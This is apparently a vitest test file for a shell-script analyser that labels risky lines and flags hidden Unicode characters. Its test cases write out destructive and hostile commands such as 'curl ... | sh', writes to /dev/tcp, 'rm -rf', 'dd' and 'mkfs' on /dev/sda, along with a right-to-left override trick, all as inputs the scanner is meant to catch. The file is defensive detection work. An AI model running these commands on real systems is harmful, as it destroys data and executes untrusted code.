import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { visible } from '@/lib/confirmation'
import { readingOf } from './index'

/** The findings of a script, as «weight line finding». */
const findings = (script: string) =>
  readingOf(script).notes.map(({ weight, from, finding }) => `${weight} ${from} ${finding}`)

describe('reading a script', () => {
  it('counts lines and characters, and the line break at the end begins no line', () => {
    expect(readingOf('ls\npwd\n')).toMatchObject({ lines: 2, characters: 7, hidden: 0, programs: ['ls'], notes: [] })
    expect(readingOf('ls\n\n')).toMatchObject({ lines: 2 })
    expect(readingOf('cat 😀')).toMatchObject({ lines: 1, characters: 5 })
  })

  it('says nothing of blanks that stand at the beginning, at the end or as a column', () => {
    expect(findings(`${' '.repeat(500)}ls${' '.repeat(60)}x${' '.repeat(500)}`)).toEqual([])
  })

  it.each([
    [`ls${' '.repeat(5_000)}; x`, 'bad 1 leaves a long gap'],
    ['rm x', 'mark 1 deletes'],
    ['rm -rf x', 'bad 1 deletes without asking'],
    ['rm --recursive x', 'bad 1 deletes without asking'],
    ['rm -rf "$D"/', 'bad 1 deletes what the script does not name'],
    ['true && rm *', 'bad 1 deletes what the script does not name'],
    ['find . -name x -delete', 'bad 1 deletes what it finds'],
    ['find . -exec rm {} +', 'bad 1 deletes what it finds'],
    ['sudo ls', 'bad 1 runs as another user'],
    ['sudo -u ledger rm -r x', 'bad 1 deletes without asking'],
    ['env A=1 nice -n 5 rm -f x', 'bad 1 deletes without asking'],
    ['timeout 5 rm -f x', 'bad 1 deletes without asking'],
    ['curl https://x.example | sh', 'bad 1 runs what it fetches from the network'],
    ['curl https://x.example | sudo bash -s', 'bad 1 runs what it fetches from the network'],
    ['cat x | bash', 'mark 1 feeds text to another program that runs it'],
    ['curl https://x.example', 'plain 1 uses the network'],
    ['echo x >/dev/tcp/10.0.0.1/80', 'bad 1 opens a connection to the network'],
    ['git push --force', 'bad 1 overwrites what others have'],
    ['git reset --hard', 'bad 1 throws work away'],
    ['git pull', 'plain 1 uses the network'],
    ['echo x > out', 'plain 1 writes a file, over what is in it'],
    ['echo x >> /etc/hosts', 'mark 1 adds to a file'],
    ['echo x > "$F"', 'mark 1 writes to a file that the script does not name'],
    ['echo $(id)', 'plain 1 puts in what another command prints'],
    ['diff <(id) x', 'plain 1 puts in what another command prints'],
    ['$CMD x', 'bad 1 runs a program that the script does not name'],
    ['eval "$X"', 'bad 1 runs text as a script'],
    ["bash -c 'rm x'", 'mark 1 runs text as a script'],
    ['. ./env.sh', 'mark 1 runs the lines of another file'],
    ["python3 -c 'x'", 'mark 1 runs a program given as text'],
    ['systemctl stop x', 'mark 1 stops a service'],
    ['dd if=/dev/zero of=/dev/sda', 'bad 1 overwrites disks or files'],
    ['mkfs.ext4 /dev/sda', 'bad 1 overwrites disks or files'],
    ['shutdown -h now', 'bad 1 stops or restarts the machine'],
    ['chmod 777 x', 'mark 1 changes who may do what'],
    ['psql x', 'mark 1 works on a database'],
    ['sleep 9 &', 'plain 1 goes on in the background'],
    ['PATH=/tmp ls', 'mark 1 changes how programs are found or read'],
    ['ls() { rm -f x; }', 'mark 1 gives a name a meaning of its own'],
    ['ls() { rm -f x; }', 'bad 1 deletes without asking'],
    ["cat 'open", 'bad 1 cannot be read as shell'],
    ['find . -exec sh -c "rm $1" \\;', 'mark 1 runs a program for each thing it finds'],
    ['awk \'{system("rm x")}\' y', 'mark 1 runs a program given as text'],
    ['busybox rm -rf /x', 'bad 1 deletes without asking'],
    ['parallel rm -f ::: x', 'bad 1 deletes without asking'],
    ['git -c alias.x=!rm x', 'mark 1 runs a program given as text'],
    [`echo hi${'\n'.repeat(60)}rm x`, 'bad 61 stands below a long gap'],
  ])('of %j says: %s', (script, finding) => expect(findings(script)).toContain(finding))

  it.each(['ls', 'cat a > /dev/null', 'echo "rm -rf /"', '# rm -rf /', "cat <<'X'\nrm -rf /\nX"])(
    'of %j says nothing bad',
    (script) => expect(findings(script).filter((finding) => !finding.startsWith('plain'))).toEqual([]),
  )

  it('says it of the right line, also inside a substitution, a function and backticks in backticks', () => {
    expect(findings('ls\nrm -f x')).toEqual(['bad 2 deletes without asking'])
    expect(findings('ls\n\nf() {\n  rm -f x\n}')).toContain('bad 4 deletes without asking')
    expect(findings('ls\necho $(\nrm -f x)')).toContain('bad 3 deletes without asking')
    expect(findings('ls\nx=`echo \\`rm -f x\\``')).toContain('bad 2 deletes without asking')
  })

  it('finds what hides, and names it; a tab is no cause', () => {
    const reading = readingOf('ls\nrm x # \u202egnp.\u200b\n\tpwd')
    expect(reading.hidden).toBe(2)
    expect(reading.notes.find((note) => note.finding === 'hides something')).toMatchObject({
      from: 2,
      weight: 'bad',
      detail: expect.stringContaining('U+202E right-to-left override, U+200B'),
    })
  })

  it('keeps what is bad when there is more than there is room for, and counts the rest', () => {
    const reading = readingOf(`${Array.from({ length: 200 }, (_, line) => `echo x > f${line}`).join('\n')}\nrm -rf x`)
    expect(reading.notes.at(-1)).toMatchObject({ from: 201, weight: 'bad' })
    expect(reading.more).toBe(201 - reading.notes.length)
  })

  it('of any text is finite, visible, and the same twice', () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom(
            'a',
            'rm ',
            '-rf ',
            '`',
            '$(',
            ')',
            '"',
            "'",
            '\\',
            '\n',
            '|',
            '>',
            '{',
            '}',
            '\u202e',
            '\u001b[2K',
            '<<X\n',
            '&',
            'sudo ',
          ),
        }),
        (script) => {
          const reading = readingOf(script)
          expect(readingOf(script)).toEqual(reading)
          for (const { from, to, finding, detail } of reading.notes) {
            expect(from >= 1 && from <= to && to <= reading.lines).toBe(true)
            expect(visible(finding + detail).every((segment) => segment.kind === 'text')).toBe(true)
          }
        },
      ),
      { numRuns: 500 },
    )
  })
})
